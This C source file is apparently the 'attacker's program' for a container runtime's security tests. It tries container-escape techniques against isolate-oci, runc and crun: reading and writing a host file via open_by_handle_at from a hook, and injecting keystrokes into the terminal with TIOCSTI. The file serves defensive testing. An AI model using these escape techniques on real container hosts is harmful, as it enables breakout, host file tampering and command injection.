/* The attacker's program for tests/security/test_oci_escapes.py, built static
 * with gcc into a bundle's rootfs, so it runs the same under isolate-oci, runc
 * and crun (no libc needed in the image).
 *
 *   oci_probe handle PATH          on the host: PATH's file handle, "TYPE HEX"
 *   oci_probe hook TYPE HEX OUT    as a startContainer hook: what this process
 *                                  is (status, cgroup, limits, seccomp) and
 *                                  whether it can read and write the host file
 *                                  whose handle is TYPE HEX; the report to OUT
 *   oci_probe tty TEXT             type TEXT into the terminal on fd 0
 *                                  (TIOCSTI), try TIOCLINUX; report on stdout
 *
 * Every line is "key value"; an errno of 0 means the attack worked. */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/stat.h>
#include <sys/sysinfo.h>
#include <termios.h>
#include <unistd.h>

#ifndef TIOCLINUX
#define TIOCLINUX 0x541C
#endif

static int
hexval(char c)
{
    if (c >= '0' && c <= '9') {
        return c - '0';
    }
    if (c >= 'a' && c <= 'f') {
        return c - 'a' + 10;
    }
    return -1;
}

static int
handle_of(const char *path)
{
    struct {
        struct file_handle fh;
        unsigned char buf[MAX_HANDLE_SZ];
    } h;
    int mount_id;
    h.fh.handle_bytes = MAX_HANDLE_SZ;
    if (name_to_handle_at(AT_FDCWD, path, &h.fh, &mount_id, 0) < 0) {
        perror("name_to_handle_at");
        return 1;
    }
    printf("%d ", h.fh.handle_type);
    for (unsigned i = 0; i < h.fh.handle_bytes; i++) {
        printf("%02x", h.fh.f_handle[i]);
    }
    printf("\n");
    return 0;
}

static void
copy_lines(FILE *out, const char *path, const char *const *keys)
{
    char line[512];
    FILE *f = fopen(path, "r");
    if (f == NULL) {
        fprintf(out, "error-open %s %d\n", path, errno);
        return;
    }
    while (fgets(line, sizeof line, f) != NULL) {
        if (keys == NULL) {
            fprintf(out, "%s %s", path, line);
            continue;
        }
        for (const char *const *k = keys; *k != NULL; k++) {
            if (strncmp(line, *k, strlen(*k)) == 0) {
                fputs(line, out);
            }
        }
    }
    fclose(f);
}

static int
hook(const char *type, const char *hex, const char *outpath)
{
    static const char *const status_keys[] = {
        "Uid:", "Gid:", "Groups:", "Umask:", "CapInh:", "CapPrm:", "CapEff:", "CapBnd:",
        "CapAmb:", "NoNewPrivs:", "Seccomp:", NULL};
    static const char *const limit_keys[] = {"Max open files", NULL};
    FILE *out = fopen(outpath, "w");
    if (out == NULL) {
        return 2;
    }
    copy_lines(out, "/proc/self/status", status_keys);
    copy_lines(out, "/proc/self/limits", limit_keys);
    copy_lines(out, "/proc/self/cgroup", NULL);

    /* The test's filter answers sysinfo(2) with a chosen errno: the config's
     * filter, not just any, is loaded. */
    struct sysinfo si;
    fprintf(out, "sysinfo %d\n", sysinfo(&si) < 0 ? errno : 0);

    struct {
        struct file_handle fh;
        unsigned char buf[MAX_HANDLE_SZ];
    } h;
    size_t n = strlen(hex) / 2;
    if (n > MAX_HANDLE_SZ) {
        return 2;
    }
    h.fh.handle_type = atoi(type);
    h.fh.handle_bytes = (unsigned)n;
    for (size_t i = 0; i < n; i++) {
        h.fh.f_handle[i] = (unsigned char)(hexval(hex[2 * i]) << 4 | hexval(hex[2 * i + 1]));
    }
    /* Any fd on the host file's filesystem names it: the container's own root. */
    int mfd = open("/", O_RDONLY | O_DIRECTORY);
    int fd = open_by_handle_at(mfd, &h.fh, O_RDONLY);
    if (fd < 0) {
        fprintf(out, "read-errno %d\n", errno);
    } else {
        char buf[256];
        ssize_t r = read(fd, buf, sizeof buf - 1);
        buf[r > 0 ? r : 0] = 0;
        buf[strcspn(buf, "\n")] = 0;
        fprintf(out, "read-errno 0\nread-data %s\n", buf);
        close(fd);
    }
    fd = open_by_handle_at(mfd, &h.fh, O_WRONLY | O_APPEND);
    if (fd < 0) {
        fprintf(out, "write-errno %d\n", errno);
    } else {
        int ok = write(fd, "written by the hook\n", 20) == 20;
        fprintf(out, "write-errno %d\n", ok ? 0 : errno);
        close(fd);
    }
    fprintf(out, "done 1\n");
    fclose(out);
    return 0;
}

static int
tty(const char *text)
{
    /* Field 7 of /proc/self/stat: the controlling terminal (0: none). */
    char stat[1024] = {0};
    int sfd = open("/proc/self/stat", O_RDONLY);
    if (sfd >= 0) {
        ssize_t r = read(sfd, stat, sizeof stat - 1);
        stat[r > 0 ? r : 0] = 0;
        close(sfd);
    }
    const char *p = strrchr(stat, ')');
    int tty_nr = -1;
    if (p != NULL) {
        char state;
        int ppid, pgrp, session;
        sscanf(p + 2, "%c %d %d %d %d", &state, &ppid, &pgrp, &session, &tty_nr);
    }
    printf("isatty %d\n", isatty(0));
    printf("ctty %d\n", tty_nr);
    printf("sid-is-pid %d\n", getsid(0) == getpid());
    int err = 0;
    for (const char *c = text; *c; c++) {
        if (ioctl(0, TIOCSTI, c) < 0) {
            err = errno;
            break;
        }
    }
    printf("tiocsti-errno %d\n", err);
    char sub[2] = {6, 0};   /* TIOCL_GETSHIFTSTATE, the most harmless subcode */
    printf("tioclinux-errno %d\n", ioctl(0, TIOCLINUX, sub) < 0 ? errno : 0);
    printf("done 1\n");
    return 0;
}

int
main(int argc, char **argv)
{
    if (argc == 3 && strcmp(argv[1], "handle") == 0) {
        return handle_of(argv[2]);
    }
    if (argc == 5 && strcmp(argv[1], "hook") == 0) {
        return hook(argv[2], argv[3], argv[4]);
    }
    if (argc == 3 && strcmp(argv[1], "tty") == 0) {
        return tty(argv[2]);
    }
    fprintf(stderr, "usage: oci_probe handle PATH | hook TYPE HEX OUT | tty TEXT\n");
    return 2;
}
